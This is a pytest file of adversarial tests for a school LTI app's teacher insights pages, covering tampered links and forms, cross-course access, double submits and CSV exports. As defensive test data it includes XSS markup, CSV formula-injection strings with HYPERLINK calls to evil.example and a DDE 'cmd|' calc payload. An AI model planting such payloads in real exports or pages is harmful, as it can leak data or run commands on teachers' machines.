"""Adversarial checks of the teacher's class insights as teachers, LMSs and hostile input meet
them: hand-edited links, names carrying markup or formulas, double clicks, proposals that
changed while the page was open, and ids from another course."""

from __future__ import annotations

import csv
import io
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from decimal import Decimal

import httpx
from sqlalchemy import select, update

from lti_app.competencies.services import create_competency
from lti_app.insights.groups import (
    create_group,
    current_member_ids,
    get_group,
    group_member_ids,
    update_group,
)
from lti_app.insights.models import StudentGroup
from lti_app.learners.goals_and_check_ins import add_goal
from lti_app.mastery.models import Evidence, EvidenceSource
from lti_app.mastery.services import record_evidence, withdraw_evidence
from lti_app.tool.models import Membership, MembershipStatus, Person
from tests.conftest import LtiActions
from tests.insights.conftest import OTHER_TEACHER, TEACHER, Seeded
from tests.progress.pages import context_id, form, person_id, post, unique, unit_of_work, url

HUGE = "9" * 25
SUPERSCRIPT_TWO = "²"  # str.isdigit() says yes, int() says no


def _no_crash(response: httpx.Response, where: str) -> None:
    assert response.status_code < 500, (where, response.status_code, response.text[-400:])
    assert "unexpected problem" not in response.text, where


def _selected_assignments(page: httpx.Response) -> dict[str, str]:
    """The propose page's <select name="assign-N"> values as a browser would submit them."""
    chosen: dict[str, str] = {}
    for name, body in re.findall(
        r'<select id="(assign-\d+)" name="\1">(.*?)</select>', page.text, re.S
    ):
        picked = re.search(r'<option value="([^"]*)" selected>', body)
        chosen[name] = picked.group(1) if picked else ""
    return chosen


def _propose_form_data(page: httpx.Response) -> dict[str, str]:
    found = form(page, "/insights/groups/propose")
    data = dict(found.fields)
    data.update(_selected_assignments(page))
    return data


@contextmanager
def _renamed(database_url: str, lms_person: int, name: str) -> Iterator[None]:
    """Give a student the name an LMS sent (NRPS or a launch), and put the old one back."""
    with unit_of_work(database_url) as s:
        person = s.get(Person, lms_person)
        assert person is not None
        old = (person.name, person.given_name, person.family_name)
        person.name, person.given_name, person.family_name = name, "", ""
    try:
        yield
    finally:
        with unit_of_work(database_url) as s:
            person = s.get(Person, lms_person)
            assert person is not None
            person.name, person.given_name, person.family_name = old


# --- hand-edited links ------------------------------------------------------------------------


def test_hand_edited_query_strings_are_answered_not_crashed(
    lti: LtiActions, seeded: Seeded
) -> None:
    """A teacher who edits the address bar, or a scanner, gets a page or a plain "not found",
    never "an unexpected problem" (SQLite cannot bind integers past 2**63, and str.isdigit()
    accepts digits int() refuses)."""
    home = lti.launch(TEACHER)
    client = home.client
    s01 = seeded.students["user-s01"]
    odd = [
        ("/insights/", f"competency={SUPERSCRIPT_TWO}&level=%00&step={HUGE}&idle=-4"),
        ("/insights/", f"idle={HUGE}&status=%3Cx%3E&sort=drop&group={HUGE}&level=-"),
        ("/insights/", "idle=0&competency=&level=Emerging&sort=level_desc&status=all"),
        ("/insights/dashboard.csv", f"idle={SUPERSCRIPT_TWO}&sort=idle&step=-1"),
        ("/insights/cell", f"cell={SUPERSCRIPT_TWO}-{seeded.c1}"),
        ("/insights/cell", f"cell={s01}-{SUPERSCRIPT_TWO}"),
        ("/insights/cell", f"cell={HUGE}-{seeded.c1}"),
        ("/insights/cell", f"cell={s01}-{HUGE}"),
        ("/insights/cell", "cell=-"),
        ("/insights/cell", f"cell={s01}-{seeded.c1}-{seeded.c2}"),
        ("/insights/attention", f"days={SUPERSCRIPT_TWO}"),
        ("/insights/attention", f"days={HUGE}"),
        ("/insights/attention", "days=-3"),
        ("/insights/progress", f"competency={HUGE}"),
        ("/insights/progress", f"competency={SUPERSCRIPT_TWO}"),
        ("/insights/groups/propose", f"competency={HUGE}"),
        ("/insights/groups/propose", f"step={SUPERSCRIPT_TWO}"),
        ("/insights/groups/propose", "competency=0&step=0"),
    ]
    for path, query in odd:
        answer = client.get(url(home.response, path) + "&" + query)
        _no_crash(answer, f"{path}?{query}")
    cell = client.get(url(home.response, "/insights/cell") + f"&cell={SUPERSCRIPT_TWO}-1")
    assert cell.status_code == 404


def test_hostile_form_fields_on_group_pages_are_refused_in_words(
    lti: LtiActions, seeded: Seeded, database_url: str
) -> None:
    """A tampered or replayed form (odd digits, a number past any id, a student of another
    course) gets a plain refusal and saves nothing."""
    lti.launch(OTHER_TEACHER, context_id="course-chem-club")
    home = lti.launch(TEACHER)
    client = home.client
    proposal = client.get(
        url(home.response, "/insights/groups/propose") + f"&competency={seeded.c1}"
    )
    data = _propose_form_data(proposal)
    with unit_of_work(database_url) as s:
        before = s.scalar(select(StudentGroup.id).order_by(StudentGroup.id.desc()).limit(1))
        outsider = person_id(s, lti.lms, OTHER_TEACHER)
    for key in (f"assign-{SUPERSCRIPT_TWO}", f"assign-{HUGE}", f"assign-{outsider}"):
        tampered = {**data, "name-0": unique("Tampered "), key: "0"}
        answer = client.post(form(proposal, "/insights/groups/propose").action, data=tampered)
        _no_crash(answer, key)
    s01 = seeded.students["user-s01"]
    with unit_of_work(database_url) as s:
        group = create_group(
            s,
            context_id=seeded.context_id,
            name="Lab partners",
            person_ids=[s01],
            created_by_id=seeded.teacher_id,
        )
        group_id = group.id
    page = client.get(url(home.response, f"/insights/groups/{group_id}"))
    for member in (HUGE, SUPERSCRIPT_TWO, str(outsider), "-1"):
        answer = post(
            client,
            form(page, f"/insights/groups/{group_id}"),
            {"name": "Lab partners", "member": [str(s01), member]},
            follow=False,
        )
        _no_crash(answer, f"member={member}")
        assert answer.status_code in (400, 404), member
    with unit_of_work(database_url) as s:
        kept = group_member_ids(s, context_id=seeded.context_id, group_id=group_id)
        assert kept == {s01}
        newest = s.scalars(select(StudentGroup).where(StudentGroup.id > (before or 0))).all()
        assert not [g for g in newest if g.name.startswith("Tampered")]


# --- text from the LMS ------------------------------------------------------------------------


def test_lms_names_with_markup_are_text_on_every_teacher_page(
    lti: LtiActions, seeded: Seeded, database_url: str
) -> None:
    """Names come from the LMS; one holding markup must read as text wherever it appears."""
    s02 = seeded.students["user-s02"]
    hostile = '<img src=x onerror="alert(1)">&amp; Co'
    with unit_of_work(database_url) as s:
        group = create_group(
            s,
            context_id=seeded.context_id,
            name='<script>alert("g")</script>',
            person_ids=[s02],
            created_by_id=seeded.teacher_id,
        )
        group_id = group.id
        # A goal past its date keeps the student on the attention list whatever other tests
        # did with their launches and evidence.
        add_goal(
            s,
            context_id=seeded.context_id,
            person_id=s02,
            text="Finish the lab report",
            target_date=date(2020, 1, 1),
            created_by_id=seeded.teacher_id,
            editor_is_teacher=True,
        )
    home = lti.launch(TEACHER)
    with _renamed(database_url, s02, hostile):
        pages = [
            "/insights/",
            f"/insights/cell?cell={s02}-{seeded.c1}",
            "/insights/attention?days=1",
            "/insights/groups",
            f"/insights/groups/propose?competency={seeded.c1}",
            f"/insights/groups/{group_id}",
            f"/insights/students/{s02}/progress",
        ]
        for path in pages:
            base, _, query = path.partition("?")
            page = home.client.get(url(home.response, base) + (f"&{query}" if query else ""))
            assert page.status_code == 200, path
            assert "<img src=x" not in page.text, path
            assert "<script>alert(" not in page.text, path
            if "groups" not in path or "propose" in path or str(group_id) in path:
                assert "&lt;img src=x onerror=" in page.text, path


# --- CSV exports ------------------------------------------------------------------------------


def test_exports_open_safely_and_readably_in_excel(
    lti: LtiActions, seeded: Seeded, database_url: str
) -> None:
    """Teachers double-click the downloads into Excel. Nothing typed by a student, a teacher or
    an LMS may run there as a formula, and names such as "Siobhán" must not turn into
    "SiobhÃ¡n": the files start with the UTF-8 byte order mark Excel looks for (product
    decision: Excel is what schools open CSV files with; other tools skip the mark)."""
    s01 = seeded.students["user-s01"]
    with unit_of_work(database_url) as s:
        code = "=" + unique("C")
        comp = create_competency(s, context_id=seeded.context_id, code=code, title="@SUM(A1:A9)")
        record_evidence(
            s,
            context_id=seeded.context_id,
            competency_id=comp.id,
            student_ids=[s01],
            points=Decimal(2),
            source=EvidenceSource.TEACHER,
            note='=HYPERLINK("http://evil.example/?"&A1,"Open")',
            recorded_by_id=seeded.teacher_id,
        )
        record_evidence(
            s,
            context_id=seeded.context_id,
            competency_id=comp.id,
            student_ids=[s01],
            points=Decimal(3),
            source=EvidenceSource.TEACHER,
            note='+1-1\t@x;=HYPERLINK("http://evil.example");ok',
            recorded_by_id=seeded.teacher_id,
        )
    home = lti.launch(TEACHER)
    with _renamed(database_url, s01, "-2+3+cmd|' /C calc'!A0"):
        for path in ("/insights/dashboard.csv", "/insights/evidence.csv"):
            answer = home.client.get(url(home.response, path) + "&status=all")
            assert answer.status_code == 200
            assert answer.content.startswith(b"\xef\xbb\xbf"), path
            text = answer.content.decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text)))
            cells = [c for row in rows for c in row]
            # Excel in a locale whose list separator is ";" splits cells there too.
            pieces = [piece for c in cells for piece in c.split(";")]
            dangerous = [p for p in pieces if p[:1] in ("=", "+", "-", "@", "\t", "\r")]
            assert dangerous == [], (path, dangerous)
            assert "'-2+3+cmd|' /C calc'!A0" in cells, path
            assert any("Siobhán" in c for c in cells), path
    log = home.client.get(url(home.response, "/insights/evidence.csv")).content
    assert b"'=HYPERLINK(" in log


# --- groups -----------------------------------------------------------------------------------


def test_double_click_on_save_groups_keeps_one_copy(
    lti: LtiActions, seeded: Seeded, database_url: str
) -> None:
    """A double click (or an impatient second click) on "Save the kept groups" saves the groups
    once, and neither click sees an error page."""
    home = lti.launch(TEACHER)
    client = home.client
    proposal = client.get(
        url(home.response, "/insights/groups/propose") + f"&competency={seeded.c1}"
    )
    data = _propose_form_data(proposal)
    name = unique("Twice ")
    data["name-0"] = name
    action = form(proposal, "/insights/groups/propose").action
    codes: list[int] = []
    barrier = threading.Barrier(2)

    def click() -> None:
        barrier.wait()
        codes.append(client.post(action, data=data).status_code)

    threads = [threading.Thread(target=click) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    # And a late third click from the same page, after both answered.
    codes.append(client.post(action, data=data).status_code)
    assert set(codes) == {303}, codes
    with unit_of_work(database_url) as s:
        saved = s.scalars(
            select(StudentGroup).where(
                StudentGroup.context_id == seeded.context_id, StudentGroup.name == name
            )
        ).all()
        assert len(saved) == 1


def test_double_click_on_a_group_form_that_adds_a_student_gives_no_error(
    lti: LtiActions, seeded: Seeded, database_url: str
) -> None:
    """Two quick saves of the same group page adding the same student both succeed, and the
    student is in the group once."""
    s01, s02, s03 = (seeded.students[k] for k in ("user-s01", "user-s02", "user-s03"))
    with unit_of_work(database_url) as s:
        group_id = create_group(
            s,
            context_id=seeded.context_id,
            name="Readers",
            person_ids=[s01],
            created_by_id=seeded.teacher_id,
        ).id
    home = lti.launch(TEACHER)
    page = home.client.get(url(home.response, f"/insights/groups/{group_id}"))
    found = form(page, f"/insights/groups/{group_id}")
    fields = {
        "lt": found.fields["lt"],
        "csrf_token": found.fields["csrf_token"],
        "name": "Readers",
        "member": [str(s01), str(s02), str(s03)],
    }
    for _ in range(3):
        codes: list[int] = []
        barrier = threading.Barrier(3)

        def click(codes: list[int] = codes, barrier: threading.Barrier = barrier) -> None:
            barrier.wait()
            codes.append(home.client.post(found.action, data=fields).status_code)

        threads = [threading.Thread(target=click) for _ in range(3)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert set(codes) == {303}, codes
        with unit_of_work(database_url) as s:
            assert group_member_ids(s, context_id=seeded.context_id, group_id=group_id) == {
                s01,
                s02,
                s03,
            }
            update_group(
                s,
                context_id=seeded.context_id,
                group_id=group_id,
                name="Readers",
                person_ids=[s01],
            )


def test_group_names_with_nul_or_too_long_are_handled_in_words(
    lti: LtiActions, seeded: Seeded, database_url: str
) -> None:
    """A name pasted with an invisible NUL is saved without it (PostgreSQL cannot store it);
    a name that is too long is refused with the limit, and nothing is saved."""
    home = lti.launch(TEACHER)
    client = home.client
    proposal = client.get(
        url(home.response, "/insights/groups/propose") + f"&competency={seeded.c1}"
    )
    data = _propose_form_data(proposal)
    tag = unique()
    data["name-0"] = f"Re\x00teach {tag}"
    saved = client.post(form(proposal, "/insights/groups/propose").action, data=data)
    _no_crash(saved, "NUL in a proposed name")
    assert saved.status_code == 303
    too_long = {**data, "name-0": "x" * 121}
    refused = client.post(form(proposal, "/insights/groups/propose").action, data=too_long)
    assert refused.status_code == 400
    assert "at most 120 characters" in refused.text
    with unit_of_work(database_url) as s:
        group = s.scalars(
            select(StudentGroup).where(
                StudentGroup.context_id == seeded.context_id,
                StudentGroup.name.like(f"%{tag}"),
            )
        ).one()
        assert group.name == f"Reteach {tag}"
        group_id = group.id
    page = client.get(url(home.response, f"/insights/groups/{group_id}"))
    members = [str(p) for p in seeded.students.values()]
    renamed = post(
        client,
        form(page, f"/insights/groups/{group_id}"),
        {"name": f"\x00Pairs\x00 {tag}", "member": members},
        follow=False,
    )
    _no_crash(renamed, "NUL in a renamed group")
    assert renamed.status_code == 303
    with unit_of_work(database_url) as s:
        group = get_group(s, context_id=seeded.context_id, group_id=group_id)
        assert group.name == f"Pairs {tag}"


def test_a_proposal_refused_for_a_name_comes_back_as_the_teacher_left_it(
    lti: LtiActions, seeded: Seeded, database_url: str
) -> None:
    """A teacher who emptied one group's name after renaming others and moving students gets
    the page back with every change still there and what to fix, not an error page."""
    home = lti.launch(TEACHER)
    client = home.client
    proposal = client.get(
        url(home.response, "/insights/groups/propose") + f"&competency={seeded.c1}"
    )
    data = _propose_form_data(proposal)
    assert len([k for k in data if k.startswith("keep-")]) >= 2, "needs two proposed groups"
    tag = unique()
    data["name-0"] = "   "
    data["name-1"] = f"Extension {tag}"
    moved = next(k for k, v in data.items() if k.startswith("assign-") and v == "1")
    data[moved] = "0"
    answer = client.post(form(proposal, "/insights/groups/propose").action, data=data)
    assert answer.status_code == 400
    assert "A group needs a name." in answer.text
    assert "Save the kept groups" in answer.text
    again = _propose_form_data(answer)
    assert again["name-1"] == f"Extension {tag}"
    assert again[moved] == "0"
    with unit_of_work(database_url) as s:
        assert not s.scalars(
            select(StudentGroup).where(StudentGroup.name == f"Extension {tag}")
        ).all()
    again["name-0"] = f"Reteach {tag}"
    saved = client.post(form(answer, "/insights/groups/propose").action, data=again)
    assert saved.status_code == 303


def test_a_proposal_that_changed_since_the_page_opened_saves_every_group_kept(
    lti: LtiActions, seeded: Seeded, database_url: str
) -> None:
    """The teacher opens the proposal, a colleague withdraws a mistaken piece of evidence (one
    proposed group no longer exists), then the teacher saves: every group they kept and named
    is saved with the students they placed in it, none silently dropped."""
    s01 = seeded.students["user-s01"]
    home = lti.launch(TEACHER)
    client = home.client
    proposal = client.get(
        url(home.response, "/insights/groups/propose") + f"&competency={seeded.c1}"
    )
    data = _propose_form_data(proposal)
    kept = sorted(int(k[5:]) for k in data if k.startswith("keep-"))
    assert len(kept) >= 3, "re-teach, ready and not assessed"
    tag = unique()
    for index in kept:
        data[f"name-{index}"] = f"Table {index} {tag}"
    wanted = {
        f"Table {index} {tag}": {
            int(k[7:]) for k, v in data.items() if k.startswith("assign-") and v == str(index)
        }
        for index in kept
    }
    with unit_of_work(database_url) as s:
        evidence_id = s.scalars(
            select(Evidence.id).where(
                Evidence.context_id == seeded.context_id,
                Evidence.person_id == s01,
                Evidence.competency_id == seeded.c1,
            )
        ).one()
        withdraw_evidence(
            s,
            context_id=seeded.context_id,
            evidence_id=evidence_id,
            changed_by_id=seeded.teacher_id,
        )
    saved = client.post(form(proposal, "/insights/groups/propose").action, data=data)
    assert saved.status_code == 303
    with unit_of_work(database_url) as s:
        groups = s.scalars(
            select(StudentGroup).where(
                StudentGroup.context_id == seeded.context_id,
                StudentGroup.name.like(f"% {tag}"),
            )
        ).all()
        got = {
            g.name: group_member_ids(s, context_id=seeded.context_id, group_id=g.id) for g in groups
        }
    assert got == wanted


def test_renaming_a_group_keeps_members_the_page_did_not_list(
    lti: LtiActions, seeded: Seeded, database_url: str
) -> None:
    """A member whose enrollment is inactive for a while (Canvas "inactive") still belongs to
    the group: the group page shows them, ticked, so renaming the group does not silently
    drop them; the teacher removes them by unticking (product decision)."""
    s01, s02 = seeded.students["user-s01"], seeded.students["user-s02"]
    with unit_of_work(database_url) as s:
        group_id = create_group(
            s,
            context_id=seeded.context_id,
            name="Field trip",
            person_ids=[s01, s02],
            created_by_id=seeded.teacher_id,
        ).id
    home = lti.launch(TEACHER)
    try:
        with unit_of_work(database_url) as s:
            s.execute(
                update(Membership)
                .where(Membership.context_id == seeded.context_id, Membership.person_id == s02)
                .values(status=MembershipStatus.INACTIVE)
            )
        page = home.client.get(url(home.response, f"/insights/groups/{group_id}"))
        assert f'value="{s02}" checked' in page.text
        found = form(page, f"/insights/groups/{group_id}")
        ticked = re.findall(r'name="member" value="(\d+)" checked', page.text)
        answer = post(
            home.client, found, {"name": "Field trip (May)", "member": ticked}, follow=False
        )
        assert answer.status_code == 303
        with unit_of_work(database_url) as s:
            group = get_group(s, context_id=seeded.context_id, group_id=group_id)
            assert group.name == "Field trip (May)"
            assert current_member_ids(group) == {s01, s02}
        # Unticking the inactive student does remove them.
        answer = post(
            home.client, found, {"name": "Field trip (May)", "member": [str(s01)]}, follow=False
        )
        assert answer.status_code == 303
        with unit_of_work(database_url) as s:
            group = get_group(s, context_id=seeded.context_id, group_id=group_id)
            assert current_member_ids(group) == {s01}
    finally:
        with unit_of_work(database_url) as s:
            s.execute(
                update(Membership)
                .where(Membership.context_id == seeded.context_id, Membership.person_id == s02)
                .values(status=MembershipStatus.ACTIVE)
            )


def test_another_courses_teacher_cannot_touch_groups_by_changing_ids(
    lti: LtiActions, seeded: Seeded, database_url: str
) -> None:
    """The chemistry club's teacher replays Biology's group ids in their own forms: nothing is
    archived, renamed, filtered or proposed from Biology."""
    s01 = seeded.students["user-s01"]
    with unit_of_work(database_url) as s:
        group_id = create_group(
            s,
            context_id=seeded.context_id,
            name="Biology only",
            person_ids=[s01],
            created_by_id=seeded.teacher_id,
        ).id
    lti.launch("user-s01", context_id="course-chem-club")  # s01 is in the club too
    other = lti.launch(OTHER_TEACHER, context_id="course-chem-club")
    client = other.client
    with unit_of_work(database_url) as s:
        club = context_id(s, lti.lms, "course-chem-club")
        create_group(s, context_id=club, name="Club group", person_ids=[s01], created_by_id=None)
    own = client.get(url(other.response, "/insights/groups"))
    fields = {k: v for k, v in form(own, "/archive").fields.items() if k in ("lt", "csrf_token")}
    base = str(other.response.url.join("/"))
    archive = client.post(f"{base}insights/groups/{group_id}/archive", data=fields)
    assert archive.status_code == 404
    rename = client.post(
        f"{base}insights/groups/{group_id}",
        data={**fields, "name": "Mine now", "member": [str(s01)]},
    )
    assert rename.status_code == 404
    propose = client.get(
        url(other.response, "/insights/groups/propose") + f"&competency={seeded.c1}"
    )
    assert propose.status_code == 404
    dashboard = client.get(url(other.response, "/insights/") + f"&group={group_id}&status=all")
    assert dashboard.status_code == 200
    assert "Biology only" not in dashboard.text
    with unit_of_work(database_url) as s:
        group = get_group(s, context_id=seeded.context_id, group_id=group_id)
        assert (group.name, group.archived_at) == ("Biology only", None)
